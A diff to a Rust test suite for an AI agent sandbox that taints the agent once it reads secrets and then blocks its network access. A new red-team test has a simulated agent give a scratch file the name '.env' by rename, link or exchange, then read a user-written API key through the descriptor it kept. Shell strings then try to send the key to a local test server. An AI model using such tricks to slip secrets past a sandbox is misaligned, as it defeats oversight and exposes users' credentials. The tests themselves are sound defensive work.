@@ -2237,7 +2237,7 @@ fn a_secret_the_agent_creates_during_the_session_taints_when_read() {
         let server = Tcp::new(&ip, 443);
         let f = Fixture::new(&format!("created-{i}")).with_attack();
         let o = f.sh(&format!(
-            "{make} && echo made && ./attack tcp {ip} 443 before && cat {read} >/dev/null && echo read && ./attack tcp {ip} 443 STOLEN"
+            "./attack tcp {ip} 443 before && {make} && echo made && cat {read} >/dev/null && echo read && ./attack tcp {ip} 443 STOLEN"
         ));
         let out = stdout(&o);
         assert!(
@@ -2263,6 +2263,57 @@ fn a_secret_the_agent_creates_during_the_session_taints_when_read() {
 /// workspace during the session is covered by the watcher: read by the agent a
 /// moment later, it taints. The window is measured from the moment the file exists
 /// to the moment its tripwire is armed (fanotify's marks in `clawless`'s fdinfo).
+/// Red team (round 3): an object given a secret's name is that secret to whoever
+/// holds it open. The agent makes `scaffold.tmp` for reading, names it `.env`
+/// (rename, link, exchange), keeps the descriptor; the user writes a key into `.env` in place; the
+/// agent reads it through the old descriptor. Naming it was reading it: tainted.
+#[test]
+fn an_object_given_a_secret_name_is_read_by_the_naming() {
+    for (k, (how, name)) in [
+        ("rename", ".env"),
+        ("rename", ".env.local"),
+        ("link", ".env"),
+        ("exchange", ".env"),
+    ]
+    .into_iter()
+    .enumerate()
+    {
+        let ip = format!("127.77.15.{}", 30 + k);
+        let server = Tcp::new(&ip, 443);
+        let f = Fixture::new(&format!("scaffold-{k}")).with_attack();
+        let mut cmd = f.command(&[], &["./attack", "scaffold", how, name, &ip, "443"]);
+        cmd.stdout(std::process::Stdio::piped())
+            .stderr(std::process::Stdio::piped());
+        let child = cmd.spawn().unwrap();
+        let start = std::time::Instant::now();
+        let mut got = String::new();
+        while start.elapsed() < Duration::from_secs(60) && !got.contains("before") {
+            got.push_str(&server.received());
+            std::thread::sleep(Duration::from_millis(10));
+        }
+        assert_eq!(got, "before", "{how}: the channel did not work before the naming");
+        while start.elapsed() < Duration::from_secs(60) && !f.ws.join("named").exists() {
+            std::thread::sleep(Duration::from_millis(10));
+        }
+        std::fs::write(f.ws.join(name), "API_KEY=FILLED-IN-BY-THE-USER\n").unwrap();
+        std::fs::write(f.ws.join("go"), "").unwrap();
+        let o = wait_with_deadline(child, Duration::from_secs(120));
+        let out = stdout(&o);
+        assert!(out.contains("scaffold naming: ok"), "{how}\n{}", show(&o));
+        assert!(
+            out.contains("read through the old descriptor: 30"),
+            "{how}\n{}",
+            show(&o)
+        );
+        assert!(
+            out.contains("after connect: errno="),
+            "{how}: not tainted\n{}",
+            show(&o)
+        );
+        assert_eq!(server.received(), "", "{how}: the key left the sandbox");
+    }
+}
+
 #[test]
 fn a_secret_created_outside_during_the_session_taints_when_read() {
     let ip = "127.77.15.20";
